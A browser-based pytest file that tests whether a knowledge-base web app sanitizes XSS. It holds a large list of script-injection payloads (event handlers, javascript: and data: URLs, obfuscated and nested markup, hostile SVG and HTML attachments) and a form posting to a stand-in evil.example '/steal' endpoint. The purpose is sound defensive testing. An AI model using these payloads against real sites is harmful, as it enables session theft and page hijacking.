"""Nothing an author writes ever runs in a reader's browser (headless Chromium, real server).

Articles carry the usual script-injection payloads in their Markdown body (raw HTML,
Markdown links and images, code blocks, headings, attachments) and in every front-matter
value the pages show (title, tags, systems, owner, error codes, tickets). Every payload
tries to set ``window.__pwned``, change ``document.title`` to "pwned", open a dialog or
navigate away. The article pages, search results (snippets and highlighting, facets, search
as you type), autocomplete, tier-1 help pages, ticket pages and the attachments themselves
are opened, and the links the payloads made are clicked: nothing may run, nothing may
navigate, and every HTML answer carries the Content-Security-Policy header.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from ..conftest import LiveServer, start_server, stop_server
from ..fixtures import AUTHOR_TOKEN, TIER2_TOKEN, git, make_kb_repo, write

pytestmark = [pytest.mark.browser]

TIMEOUT_MS = 5_000
WORD = "payloadword"  # in every hostile article, so one search finds them all
EVIL = "https://evil.example"

# Each tries to run script; the number says which one did.
BODY_PAYLOADS = [
    "<script>window.__pwned = 1; document.title = 'pwned'</script>",
    '<img src=x onerror="window.__pwned = 2">',
    '<svg onload="window.__pwned = 3"><circle r="5"/></svg>',
    '<a href="javascript:window.__pwned = 4" id="raw-js-link">raw javascript link</a>',
    "[markdown javascript link](javascript:window.__pwned=5)",
    "[markdown data link](data:text/html,<script>parent.__pwned=6</script>)",
    "[markdown vbscript link](vbscript:msgbox(7))",
    '<iframe src="javascript:parent.__pwned = 8"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned = 9</script>"></iframe>',
    '<object data="javascript:window.__pwned = 10"></object>',
    '<embed src="javascript:window.__pwned = 11">',
    f'<form action="{EVIL}/steal"><input name="t" autofocus onfocus="window.__pwned = 12">'
    '<button id="evil-submit">Submit</button></form>',
    '<form action="javascript:window.__pwned = 13"><button>Go</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned = 14">',
    '<div style="background:url(javascript:window.__pwned=15); '
    'width: expression(window.__pwned=15)">styled</div>',
    '<details open ontoggle="window.__pwned = 16"><summary>toggle</summary></details>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 17">'
    "</style></mglyph></table></mtext></math>",
    '<a href="JaVaScRiPt:window.__pwned = 18">mixed case link</a>',
    '<a href="&#106;avascript:window.__pwned = 19">entity link</a>',
    '<a href="java\tscript:window.__pwned = 20">tab link</a>',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>body {{ background: url({EVIL}/) }}</style>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=21>"></noscript>',
    '![x" onerror="window.__pwned=22](missing.png)',
    '[titled](https://example.com "x\\" onmouseover=\\"window.__pwned=23")',
    '<video><source onerror="window.__pwned = 24"></video>',
    '<audio src=x onerror="window.__pwned = 25">',
    '<svg><a xlink:href="javascript:window.__pwned = 26"><text y="10">svg link</text></a></svg>',
    '<table><tr><td style="text-align:center;background:url(javascript:window.__pwned=27)">cell'
    "</td></tr></table>",
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22'
    'window.__pwned=28%22/>">',
    '<p>text with <b onmouseover="window.__pwned = 29">bold</b> and '
    "&lt;script&gt;window.__pwned = 30&lt;/script&gt; as words</p>",
    '<a href="https://example.com" target="_blank" onclick="window.__pwned = 31">external</a>',
    "<isindex action=javascript:window.__pwned=32 type=image>",
    '<img src="x` `<script>window.__pwned = 33</script>"` `>',
]
# What the payloads' links say: clicked if they are rendered as links at all.
LINK_TEXTS = [
    "raw javascript link",
    "markdown javascript link",
    "markdown data link",
    "markdown vbscript link",
    "mixed case link",
    "entity link",
    "tab link",
    "svg link",
    "evil attachment",
    "html attachment",
]
PAYLOAD_TEXT = "\n\n".join(BODY_PAYLOADS)

BODY = f"""---
id: XSS-BODY
title: Hostile body {WORD}
type: resolution
systems: [Browser]
tags: [security]
audience: public
---
## Symptoms

The {WORD} article.

{PAYLOAD_TEXT}

## <img src=x onerror="window.__pwned = 40"> heading with markup

```html
<script>window.__pwned = 41</script> {WORD} in code
```

Inline `<script>window.__pwned = 42</script>` code.

## Resolution

1. Open the [evil attachment](evil.svg) and the [html attachment](report.html).
2. ![evil image](evil.svg)
"""

SCRIPT = "<script>window.__pwned = {}</script>"
IMG = '<img src=x onerror="window.__pwned = {}">'
FRONT = {
    "id": "XSS-FRONT",
    "title": f"{SCRIPT.format(101)}{IMG.format(102)} {WORD} title",
    "type": SCRIPT.format(109),  # not a type: kb lint's note to authors quotes it
    "systems": ['"><script>window.__pwned = 103</script>', "Browser"],
    "tags": [IMG.format(104), "security", f"{WORD}tag"],
    "owner": '<svg onload="window.__pwned = 105">',
    "error_codes": [IMG.format(106)],
    "tickets": [f"INC-{SCRIPT.format(107)}"],
    "audience": "public",
    "custom": SCRIPT.format(108),
}
FRONT_BODY = f"""
## Symptoms

Front matter full of markup, {WORD}.

## Resolution

1. Nothing to do {WORD}.
"""
EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned = 50; alert(50)">'
    "<script>window.__pwned = 51; document.title = 'pwned'</script>"
    "<rect width='9' height='9'/></svg>"
)
EVIL_HTML = "<!doctype html><title>report</title><script>window.__pwned = 52; alert(52)</script>"


def make_xss_kb(repo: Path) -> Path:
    kb = make_kb_repo(repo)
    write(kb, "xss/body.md", BODY)
    write(kb, "xss/front.md", "---\n" + json.dumps(FRONT, indent=1) + "\n---\n" + FRONT_BODY)
    write(kb, "xss/evil.svg", EVIL_SVG)
    write(kb, "xss/report.html", EVIL_HTML)
    write(kb, f"xss/{IMG.format(110)}.md", f"---\ntitle: [{SCRIPT.format(111)}\n---\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "Hostile articles")
    return kb


# ---------------------------------------------------------------------- browser


@pytest.fixture(scope="module")
def xss_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    root = tmp_path_factory.mktemp("xss")
    server = start_server(make_xss_kb(root / "repo"), root / "index", root / "serve.log")
    yield server
    stop_server(server)


@dataclass
class Watch:
    """Everything that would show a payload ran, or that a page escaped its origin."""

    origin: str
    dialogs: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)
    outside_requests: list[str] = field(default_factory=list)
    html_without_csp: list[str] = field(default_factory=list)
    html_pages: int = 0

    def navigated(self, frame: Any, page: Any) -> None:
        if frame == page.main_frame:
            self.navigations.append(frame.url)

    def on_response(self, response: Any) -> None:
        if "text/html" in (response.headers.get("content-type") or ""):
            self.html_pages += 1
            if "content-security-policy" not in response.headers:
                self.html_without_csp.append(response.url)


# Before any of the page's code runs: record what the Content-Security-Policy blocks. The
# sanitizer should leave nothing for it to block; the CSP is the second line of defence.
GUARD = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__cspViolations.push(e.violatedDirective + " " + e.blockedURI);
});
"""


@pytest.fixture
def watched(chromium: Any, xss_server: LiveServer) -> Iterator[tuple[Any, Watch]]:
    context = chromium.new_context(base_url=xss_server.url)
    context.set_default_timeout(TIMEOUT_MS)
    context.add_init_script(GUARD)
    watch = Watch(xss_server.url)

    def outside(route: Any) -> None:
        watch.outside_requests.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^(?!" + re.escape(xss_server.url) + r")(https?|wss?):.*"), outside)
    page = context.new_page()
    page.on("dialog", lambda d: (watch.dialogs.append(d.message), d.dismiss()))
    page.on("response", watch.on_response)
    page.on("framenavigated", lambda frame: watch.navigated(frame, page))
    yield page, watch
    context.close()


# Handler attributes and script URLs anywhere in the document: a payload that waits for a
# hover or a click would need one.
LIVE_ATTRIBUTES = """() => [...document.querySelectorAll('*')].flatMap(el =>
    [...el.attributes].filter(a => /^on/i.test(a.name)
        || /^(javascript|vbscript|data:text)/i.test(a.value.replace(/[\\s\\u0000]/g, '')))
      .map(a => el.tagName + ' ' + a.name + '=' + a.value))"""
STYLES = "() => [...document.querySelectorAll('[style]')].map(e => e.getAttribute('style'))"
# Where article content ends up, and what must never be in it.
CONTENT = (
    "article .body",
    "#results",
    ".help-results",
    ".ticket-page",
    "dl.facts",
    "nav.related",
    "#suggestions",
    "article header h1",
)
ACTIVE = (
    "script, iframe, object, embed, form, input, meta, base, link, style, svg, "
    "button:not(.copy-section):not(.copy):not(.copy-code):not(.clear-highlights)"
)  # our own copy buttons are fine


def assert_nothing_ran(page: Any, watch: Watch, where: str, document: bool = True) -> None:
    """No payload ran here: no __pwned, no "pwned" title, no dialog, the page is still ours;
    and (for our pages, not a raw attachment) no handler, script URL or active element is
    left in the document for a later hover or click to set off."""
    page.wait_for_timeout(100)  # after "load": late handlers (refresh, toggle) would fire now
    pwned = page.evaluate("typeof window.__pwned === 'undefined' ? null : window.__pwned")
    assert pwned is None, (where, pwned)
    assert page.title() != "pwned", where
    assert watch.dialogs == [], (where, watch.dialogs)
    if document:
        # nothing reaches the CSP: the sanitizer keeps no inline style (table alignment is
        # a class), so the policy never has to block anything
        blocked = page.evaluate("window.__cspViolations")
        assert blocked == [], (where, "reached the CSP", blocked)
        assert page.evaluate(STYLES) == [], where
        live = page.evaluate(LIVE_ATTRIBUTES)
        assert live == [], (where, live)
        for container in CONTENT:
            active = page.locator(container).locator(ACTIVE)
            assert active.count() == 0, (
                where,
                container,
                active.first.evaluate("e => e.outerHTML"),
            )
    assert page.url.startswith(watch.origin), (where, page.url)
    strays = [url for url in watch.navigations if not url.startswith(watch.origin)]
    assert strays == [], (where, strays)
    assert watch.outside_requests == [], (where, watch.outside_requests)


def visit(page: Any, watch: Watch, path: str, document: bool = True) -> None:
    response = page.goto(path)
    assert response is not None and response.status < 500, path
    page.wait_for_load_state("load")
    assert_nothing_ran(page, watch, path, document)


def expect(target: Any) -> Any:
    from playwright.sync_api import expect as playwright_expect

    return playwright_expect(target)


# ---------------------------------------------------------------------- the tests


def test_hostile_articles_run_nothing_on_any_page(watched: tuple[Any, Watch]) -> None:
    """Article pages, search results, facets, help pages and ticket pages, as anonymous."""
    page, watch = watched
    pages = [
        "/kb/XSS-BODY",
        "/kb/XSS-FRONT",
        f"/?q={WORD}",
        "/?q=script+pwned+onerror",
        f"/?q={WORD}&tag=security",
        "/?q=window",
        f"/?q={WORD}&sort=updated",
        "/",
        f"/help?q={WORD}",
        "/help/kb/XSS-BODY",
        "/help/kb/XSS-FRONT",
        "/help/escalate",
        "/tickets/" + quote(FRONT["tickets"][0], safe=""),
        "/kb/XSS-FRONT/history",
        "/?q=" + quote(IMG.format(60)),
        "/help?q=" + quote(SCRIPT.format(61)),
    ]
    for path in pages:
        visit(page, watch, path)
    # the payloads reached the pages as text: proof that they were there to be run
    page.goto("/kb/XSS-FRONT")
    assert "window.__pwned = 101" in page.locator("article h1").inner_text()
    assert page.locator("dl.facts").get_by_text(IMG.format(104)).count() == 1
    page.goto(f"/?q={WORD}")
    assert page.locator("#results li.hit").count() == 2
    assert page.locator("aside.facets").get_by_text(IMG.format(104)).count() == 1
    # tier 2 reads histories (diffs of the payloads) and /problems (a file named like one)
    page.set_extra_http_headers({"Authorization": f"Bearer {TIER2_TOKEN}"})
    for path in ("/problems", "/kb/XSS-BODY/history", "/kb/XSS-FRONT/history"):
        visit(page, watch, path)
    problems = page.goto("/problems")
    assert problems is not None and "window.__pwned = 110" in problems.text()
    # authors see kb lint's findings on the page, which quote the front matter
    page.set_extra_http_headers({"Authorization": f"Bearer {AUTHOR_TOKEN}"})
    visit(page, watch, "/kb/XSS-FRONT")
    assert "window.__pwned = 109" in page.locator(".author-notes").inner_text()
    assert watch.html_without_csp == [], watch.html_without_csp
    assert watch.html_pages >= len(pages)


def test_search_as_you_type_and_autocomplete_run_nothing(watched: tuple[Any, Watch]) -> None:
    """Results and suggestions are put in the page by script: they must stay text."""
    page, watch = watched
    page.goto("/")
    page.locator("#q").press_sequentially(f"{WORD} in code", delay=10)
    expect(page.locator("#results .summary")).to_contain_text(f"{WORD} in code")
    snippets = " ".join(page.locator("#results .snippet").all_inner_texts())
    assert "<script>window.__pwned = 41</script>" in snippets  # shown, highlighted, as text
    assert page.locator("#results .snippet mark").count() > 0
    assert_nothing_ran(page, watch, "search as you type")

    page.fill("#q", "")
    page.locator("#q").press_sequentially("Hostile bo", delay=20)
    suggestions = page.locator("#suggestions")
    suggestions.get_by_role("option").first.wait_for()
    assert_nothing_ran(page, watch, "autocomplete")
    page.fill("#q", "")
    page.locator("#q").press_sequentially(f"{WORD} ti", delay=20)  # the front-matter title
    suggestions.get_by_role("option").first.wait_for()
    assert "window.__pwned = 101" in suggestions.inner_text()
    assert_nothing_ran(page, watch, "autocomplete of a title with markup")
    page.press("#q", "ArrowDown")
    page.press("#q", "Enter")
    page.wait_for_url(re.compile(r"/kb/XSS-FRONT$"))
    assert_nothing_ran(page, watch, "autocomplete choice")


def test_clicking_what_the_payloads_left_runs_nothing(watched: tuple[Any, Watch]) -> None:
    """javascript:, data: and vbscript: links are not links at all; the attachments open
    under a sandboxing CSP, so even an HTML or SVG file with script runs none."""
    page, watch = watched
    visit(page, watch, "/kb/XSS-BODY")
    body = page.locator("article .body")
    clicked = []
    for text in LINK_TEXTS:
        links = body.locator("a", has_text=re.compile(rf"^{re.escape(text)}$"))
        if links.count() == 0:
            continue  # not even an <a>: nothing to click
        href = links.first.get_attribute("href")
        assert href is None or href.startswith(("/", "https://")), (text, href)
        clicked.append(text)
        links.first.click()
        page.wait_for_load_state("load")
        attachment = urlsplit(page.url).path.startswith("/kb-files/")
        if attachment:
            response = page.request.get(page.url)
            assert "sandbox" in response.headers["content-security-policy"]
        assert_nothing_ran(page, watch, f"after clicking {text!r}", document=not attachment)
        if page.url != f"{watch.origin}/kb/XSS-BODY":
            page.goto("/kb/XSS-BODY")
    assert {"evil attachment", "html attachment", "raw javascript link"} <= set(clicked), clicked
    for attachment in ("/kb-files/xss/evil.svg", "/kb-files/xss/report.html"):
        visit(page, watch, attachment, document=False)
